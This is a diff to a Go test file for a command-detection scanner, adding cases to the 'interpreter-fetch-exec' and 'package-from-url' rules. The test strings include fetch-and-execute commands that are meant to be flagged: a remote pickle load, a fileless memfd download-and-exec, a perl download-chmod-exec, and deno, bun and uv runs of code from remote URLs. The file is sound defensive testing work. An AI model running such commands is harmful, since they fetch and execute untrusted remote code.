@@ -130,6 +130,8 @@ func TestRCEMakefileFromDownload(t *testing.T) {
 
 func TestRCEInterpreterFetchExec(t *testing.T) {
 	runRuleCases(t, "rce.interpreter-fetch-exec", []ruleCase{
+		cmdCase(`python3 -c "import pickle,urllib.request; pickle.loads(urllib.request.urlopen('https://x.example.net/w').read())"`, true),
+		cmdCase(`python3 -c 'import pickle; print(pickle.load(open("model.pkl","rb")))'`, false),
 		// Run from memory or by replacing the process: no file to review.
 		cmdCase(`python3 -c "import os,urllib.request as u;f=os.memfd_create('x');os.write(f,u.urlopen('http://203.0.113.9/elf').read());os.execv('/proc/self/fd/%d'%f,['x'])"`, true),
 		cmdCase(`perl -MLWP::Simple -e 'getstore("http://203.0.113.9/b","/tmp/b"); chmod 0755,"/tmp/b"; exec("/tmp/b")'`, true),
@@ -164,6 +166,8 @@ func TestRCEDangerousScriptWrite(t *testing.T) {
 
 func TestRCEPackageFromURL(t *testing.T) {
 	runRuleCases(t, "rce.package-from-url", []ruleCase{
+		cmdCase("uv run --with https://files.example.net/devtools-0.3.1-py3-none-any.whl python -m devtools", true),
+		cmdCase("uv run --with rich python app.py", false),
 		cmdCase("deno run -A https://198.51.100.12/mod.ts", true),
 		cmdCase("bun run https://scripts.example.net/x.ts", true),
 		cmdCase("deno run --allow-net main.ts", false),
